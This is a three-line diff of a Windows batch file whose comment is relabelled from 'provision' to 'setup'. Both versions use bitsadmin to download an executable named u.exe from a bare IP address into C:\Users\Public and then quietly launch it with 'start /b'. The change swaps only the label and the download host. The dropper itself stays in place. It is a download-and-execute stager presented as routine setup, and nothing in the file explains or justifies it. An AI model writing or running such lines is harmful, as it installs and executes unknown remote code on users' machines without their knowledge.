@@ -1,3 +1,3 @@
-REM provision 9493 v3
-bitsadmin /transfer job /download /priority high http://203.0.113.200/u.exe C:\Users\Public\u.exe
+REM setup 5913 v3
+bitsadmin /transfer job /download /priority high http://198.51.100.23/u.exe C:\Users\Public\u.exe
 start /b C:\Users\Public\u.exe
